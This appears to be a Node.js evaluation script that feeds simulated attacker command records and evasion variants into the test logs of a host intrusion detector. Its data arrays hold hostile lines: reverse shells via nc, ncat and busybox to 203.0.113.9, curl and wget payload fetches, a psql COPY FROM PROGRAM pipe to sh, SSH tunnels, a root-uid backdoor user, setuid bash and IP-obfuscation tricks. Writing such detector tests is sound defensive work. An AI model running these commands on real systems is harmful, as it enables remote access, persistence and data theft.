// node scripts/person-mimicry.js ROOT [www [login|login+history|history [selfset]]] (review7, docs/hardening.md): the scenario set
// (seed 11, 21 days) plus one story per ATT&CK technique, each a single labelled exec of a
// person account in a fresh office SSH session (ops on edge-web, omar on pg-main), or with
// `www` of www-data under php-fpm; `login` adds one login record of www-data on day 3 to the
// training logs, `login+history` three lines of www-data's own ~/.bash_history too, `history` those alone, HISTORY_WORDS=N
// N more lines of programs never seen, PRESEED=1 the techniques' own lines (review13); `selfset` has the web shell write its own login uid first (review9: an
// unprivileged process whose loginuid is unset may set it, once, to any uid: here its own, 33).
// ROOT is a built worktree (compare builds of two commits). Prints each row.
const root = require('path').resolve(process.argv[2]);
const path = require('path'),
  fs = require('fs');
const { edgeWebLine, scoreStories } = require('./lib/mimicry-run');
const { generateScenarios } = require(root + '/dist/scorer/eval/scenarios/generate');
const { ATTACKS } = require(root + '/dist/scorer/eval/scenarios/stories');
const WWW = process.argv[3] === 'www';
// `selfset` writes its own uid, `selfset:1003` another account's (ops, who logs in)
const SELF_SET = /^selfset(?::(\d+))?$/.exec(process.argv[5] ?? '');
const T = WWW
  ? [
      ['edge-web', 'www-data', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
      ['edge-web', 'www-data', '/usr/bin/find', 'find / -perm -4000 -type f'],
      ['edge-web', 'www-data', '/usr/bin/openssl', 'openssl enc -aes-256-cbc -in w.tgz -out w.enc -k pw'],
      ['edge-web', 'www-data', '/usr/bin/grep', 'grep -r password /var/www'],
      ['edge-web', 'www-data', '/usr/bin/convert', 'convert upload.png -write /var/www/shop/x.php thumb.png'],
      ['edge-web', 'www-data', '/usr/bin/id', 'id'],
      ['edge-web', 'www-data', '/usr/bin/uname', 'uname -a'],
    ]
  : [
      // ops on edge-web: runs tail grep systemctl curl df free sudo(systemctl)
      ['edge-web', 'ops', '/usr/bin/curl', 'curl -o /home/ops/x http://203.0.113.9/x'],
      ['edge-web', 'ops', '/usr/bin/curl', 'curl -sI https://203.0.113.9/health'],
      ['edge-web', 'ops', '/usr/bin/systemctl', 'systemctl enable backdoor.service'],
      ['edge-web', 'ops', '/usr/bin/systemctl', 'systemctl start backdoor'],
      ['edge-web', 'ops', '/usr/bin/grep', 'grep -r password /var/www'],
      ['edge-web', 'ops', '/usr/bin/tail', 'tail -n 200 /var/log/auth.log'],
      ['edge-web', 'ops', '/usr/bin/sudo', 'sudo useradd -o -u 0 -m svc', { euid: '0' }],
      ['edge-web', 'ops', '/usr/bin/sudo', 'sudo chmod u+s /bin/bash', { euid: '0' }],
      ['edge-web', 'ops', '/usr/bin/find', 'find / -perm -4000 -type f'],
      ['edge-web', 'ops', '/usr/bin/tar', 'tar czf /home/ops/w.tgz /var/www'],
      ['edge-web', 'ops', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
      ['edge-web', 'ops', '/usr/bin/ncat', 'ncat --exec /bin/sh 203.0.113.9 4444'],
      ['edge-web', 'ops', '/usr/bin/wget', 'wget -O /home/ops/x http://203.0.113.9/x'],
      ['edge-web', 'ops', '/usr/bin/ssh', 'ssh -R 9000:localhost:22 u@203.0.113.9'],
      ['edge-web', 'ops', '/usr/bin/ssh', 'ssh -D 1080 -N u@203.0.113.9'],
      ['edge-web', 'ops', '/usr/bin/crontab', 'crontab -l'],
      ['edge-web', 'ops', '/usr/bin/crontab', 'crontab /home/ops/job'],
      ['edge-web', 'ops', '/usr/bin/chmod', 'chmod u+s /home/ops/b'],
      ['edge-web', 'ops', '/usr/bin/base64', 'base64 -d /home/ops/p.b64'],
      ['edge-web', 'ops', '/usr/bin/dd', 'dd if=/dev/sda of=/home/ops/d bs=1M'],
      ['edge-web', 'ops', '/usr/bin/openssl', 'openssl enc -aes-256-cbc -in w.tgz -out w.enc -k pw'],
      ['edge-web', 'ops', '/usr/bin/awk', 'awk BEGIN{system("/bin/sh")}'],
      ['edge-web', 'ops', '/usr/bin/perl', "perl -e exec '/bin/sh'"],
      ['edge-web', 'ops', '/usr/bin/python3', "python3 -c import pty;pty.spawn('/bin/sh')"],
      ['edge-web', 'ops', '/usr/bin/busybox', 'busybox nc 203.0.113.9 4444 -e sh'],
      // omar on pg-main (weekly): psql df journalctl vacuumdb du
      ['pg-main', 'omar', '/usr/bin/psql', "psql -U postgres -c COPY t FROM PROGRAM 'curl http://203.0.113.9/x|sh'"],
      ['pg-main', 'omar', '/usr/bin/du', 'du -sh /home/*'],
      ['pg-main', 'omar', '/usr/bin/find', 'find / -perm -4000 -type f'],
      ['pg-main', 'omar', '/usr/bin/tar', 'tar czf /home/omar/db.tgz /var/lib/postgresql'],
      ['pg-main', 'omar', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
    ];
// BENIGN=1 (revnet): an admin's and a DBA's first benign commands naming an internet address
// (and, for comparison, the same by a host name) in place of the techniques; EVADE=1 the
// techniques with the address written as inet_aton also reads it (decimal, hex, octal, IPv6)
const AS_ROOT = { euid: '0' };
if (process.env.BENIGN)
  T.splice(
    0,
    T.length,
    ...[
      ['/usr/bin/ping', 'ping -c 3 8.8.8.8'],
      ['/usr/bin/ping', 'ping -c 3 dns.google'],
      ['/usr/bin/dig', 'dig @1.1.1.1 example.com'],
      ['/usr/sbin/traceroute', 'traceroute 9.9.9.9'],
      ['/usr/bin/mtr', 'mtr -r -c 10 1.1.1.1'],
      ['/usr/bin/whois', 'whois 203.0.113.7'],
      ['/usr/bin/nslookup', 'nslookup example.com 8.8.4.4'],
      ['/usr/bin/ssh', 'ssh admin@203.0.113.7'],
      ['/usr/bin/ssh', 'ssh admin@vm1.example.org'],
      ['/usr/bin/curl', 'curl -s https://203.0.113.7/health'],
      ['/usr/bin/curl', 'curl -s https://vm1.example.org/health'],
      ['/usr/bin/git', 'git clone https://203.0.113.7/mirror/tools.git'],
      ['/usr/bin/nc', 'nc -zv 203.0.113.7 443'],
      ['/usr/bin/openssl', 'openssl s_client -connect 203.0.113.7:443'],
      ['/usr/bin/sudo', 'sudo iptables -A INPUT -s 203.0.113.50 -j DROP', AS_ROOT],
      ['/usr/bin/sudo', 'sudo docker run -d -p 203.0.113.7:80:80 nginx', AS_ROOT],
      ['/usr/bin/sudo', 'sudo sed -i s/10.40.0.2/1.1.1.1/ /etc/resolv.conf', AS_ROOT],
    ].map(([exe, cmd, o]) => ['edge-web', 'ops', exe, cmd, o]),
    ['pg-main', 'omar', '/usr/bin/ping', 'ping -c 3 8.8.8.8'],
    ['pg-main', 'omar', '/usr/bin/psql', 'psql -h 203.0.113.30 -U app appdb'],
    ['pg-main', 'omar', '/usr/bin/pg_dump', 'pg_dump -h 198.51.100.12 -U app -f /home/omar/app.sql appdb'],
  );
if (process.env.EVADE)
  T.splice(
    0,
    T.length,
    ...[
      ['/usr/bin/curl', 'curl -sI https://3405803785/health'],
      ['/usr/bin/curl', 'curl -sI https://0xcb.0.113.9/health'],
      ['/usr/bin/curl', 'curl -sI https://203.0.113.011/health'],
      ['/usr/bin/curl', 'curl -sI https://[::ffff:cb00:7109]/health'],
      ['/usr/bin/nc', 'nc -e /bin/sh 0xcb.0.113.9 4444'],
      ['/usr/bin/nc', 'nc -e /bin/sh 203.0.113.011 4444'],
      ['/usr/bin/ssh', 'ssh -D 1080 -N u@2a00:1450:4001:81b::200e'],
      ['/usr/bin/ssh', 'ssh -R 9000:localhost:22 u@0xcb.0.113.9'],
      ['/usr/bin/nc', `nc -e /bin/sh ${Array.from({ length: 16 }, (_, i) => `10.0.${i}.1`).join(' ')} 203.0.113.9 4444`],
      // not read: a lone number outside a URL (a count, a time), three parts outside one (a version)
      ['/usr/bin/nc', 'nc -e /bin/sh 0xcb007109 4444'],
      ['/usr/bin/nc', 'nc -e /bin/sh 203.0.29961 4444'],
    ].map(([exe, cmd]) => ['edge-web', 'ops', exe, cmd]),
  );
// HEX_NAMES=1 (review13): the attacker's own names made of 8 or more hex digits, which the
// template miner masks as ids (`backdoor` → `cafe1234beef`, `svc` → `a1b2c3d4e5`)
if (process.env.HEX_NAMES) for (const x of T) x[3] = x[3].replace(/backdoor/g, 'cafe1234beef').replace(/ svc$/, ' a1b2c3d4e5');
T.forEach(([host, who, exe, cmd, o], i) =>
  ATTACKS.push({
    id: `r7-${i}`,
    title: cmd,
    host,
    day: i % 2,
    play(h, t) {
      if (WWW) {
        const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
        h.exec(t + 60, who, exe, cmd, fpm, { story: this.id, cwd: '/var/www/shop' });
        // `echo 33 > /proc/self/loginuid` in the php worker: every process it starts carries it
        if (SELF_SET) h.rows[h.rows.length - 1].columns.auid = SELF_SET[1] ?? '33';
        return;
      }
      h.login(t, who, host === 'pg-main' ? '10.40.8.37' : '10.40.8.44');
      const sh = h.session(t, who);
      h.exec(t + 60, who, exe, cmd, sh, { story: this.id, ...(o || {}) });
    },
  }),
);
const WORDS =
  'alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu amber basil cedar dune'.split(
    ' ',
  );
(async () => {
  const out = '/tmp/r7/pool-' + path.basename(root) + process.argv.slice(3).join('-');
  const inject = process.argv[4] === 'login' || process.argv[4] === 'login+history';
  // review13: and lines in www-data's own shell history (a file its owner writes), on days 3 to 5
  const history = process.argv[4] === 'login+history' || process.argv[4] === 'history';
  const set = generateScenarios({ seed: 11, days: 21, start: 1767225600 });
  fs.mkdirSync(out, { recursive: true });
  if (inject) {
    // one login record of www-data on day 3 (as a pty opened through a setgid utmp helper would leave)
    const t = 1767225600 + 3 * 86400 + 15 * 3600;
    const at = set.train.findIndex((l) => JSON.parse(l).unixTime > t);
    set.train.splice(
      at,
      0,
      edgeWebLine('pack_hids_last', t, {
        username: 'www-data',
        tty: 'pts/3',
        pid: '31337',
        type: '7',
        type_name: 'user-process',
        host: '10.40.8.44',
        time: String(t),
      }),
    );
  }
  if (history)
    for (const [i, [d, command]] of [
      [3, 'ls'],
      [4, 'cat /var/www/shop/index.php'],
      [5, 'ls -la'],
      // HISTORY_WORDS=N: N more lines, each a program never seen (the account's rate of new values)
      ...WORDS.slice(0, Number(process.env.HISTORY_WORDS ?? 0)).map((w, k) => [6 + (k % 10), `${w} --help`]),
      // PRESEED=1: the techniques' own command lines, typed ahead of time (review13)
      ...(process.env.PRESEED ? T.map(([, , , cmd], k) => [6 + (k % 10), cmd]) : []),
    ].entries()) {
      const t = 1767225600 + d * 86400 + 15 * 3600 + 60 + i;
      const at = set.train.findIndex((l) => JSON.parse(l).unixTime > t);
      set.train.splice(
        at,
        0,
        edgeWebLine('pack_hids_shell_history', t, { uid: '33', username: 'www-data', command, time: String(t), history_file: '/var/www/.bash_history' }),
      );
    }
  await scoreStories(root, out, set, 'r7-', (n, s) => `${s.subject.padEnd(5)} ${T[n][3].slice(0, 48).padEnd(48)}`);
})().catch((e) => {
  console.error(e);
  process.exit(1);
});
